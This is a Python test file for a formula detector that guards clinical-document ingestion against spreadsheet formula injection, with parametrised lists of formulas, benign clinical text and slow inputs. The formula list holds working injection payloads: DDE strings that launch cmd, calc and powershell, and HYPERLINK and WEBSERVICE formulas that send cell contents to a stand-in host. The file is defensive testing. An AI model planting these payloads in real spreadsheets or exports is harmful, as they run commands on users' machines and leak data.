import pytest

from docgemma.ingest.formulas import is_formula
from tests.support.tables import each_of

FORMULAS = (
    "=1",
    "=A1",
    "=1+1",
    "= 1 + 1",
    "=SUM(A1:A9)",
    "= SUM(A1:A9)",
    "=sum(a1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Read more")',
    '=WEBSERVICE("http://evil.example")',
    "=-1",
    "=+A1",
    "=@SUM(1)",
    "='Sheet 2'!A1",
    "= Sheet2!B7",
    '="a"&"b"',
    "+1+1",
    "+1 + 1",
    "-2+3",
    "-A1",
    "+$B$12",
    "+A1*B1",
    "-(1+2)",
    "-1/2",
    '+HYPERLINK("http://evil.example","x")',
    "-sum(A1:A2)",
    "--SUM(1)",
    "+_xlfn.CONCAT(A1)",
    "+cmd|' /C calc'!A0",
    "-cmd|'/c powershell'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    "@A1",
    "  =1+1",
    "\t=1+1",
    "\r\n=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
)

TEXTS = (
    "",
    " ",
    "- Wash your hands.\n- Dry them.",
    "-Wash your hands.",
    "- 5 to 10 minutes",
    "-5 °C",
    "-5",
    "-5.5",
    "- 5",
    "+ve for glucose",
    "+ve",
    "+++ protein in the urine",
    "+/- 0.5 mmol/L",
    "+2 oedema",
    "+CRP(>10) suggests infection",
    "-HbA1c(%) is the share of sugared haemoglobin",
    "-If (fever) call the doctor",
    "-20 to -10",
    "-1/2 tablet in the morning",
    "+84 912 345 678",
    "+1-800-222-1222",
    "+84 24 3852 3798",
    "=> next step: call the physician",
    "== Storage ==",
    "= 5 mg",
    "= nhịp tim chậm",
    "@home care",
    "@ 9 a.m.",
    "--- see above ---",
    "- đau | sốt | ho!",
    "- Vitamin B12: 1 mg",
    "a = b + c",
    "1+1",
    "SUM(A1)",
    "HbA1c = 7 %",
    "−5 °C",
    "– a dash begins this",
)


@each_of("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_a_formula(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_clinical_text_that_begins_with_a_sign_is_text(text: str) -> None:
    assert not is_formula(text)


SLOW = {
    "signs": "-" * 50_000,
    "brackets": "=" + "(" * 50_000,
    "sums": "+1" + "+ 1" * 20_000,
    "bars": "-a|" * 20_000,
    "blanks": "+ " * 30_000,
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW)
def test_a_text_built_to_be_slow_is_judged_by_its_beginning(text: str) -> None:
    assert is_formula(text) == is_formula(text[:2_000])
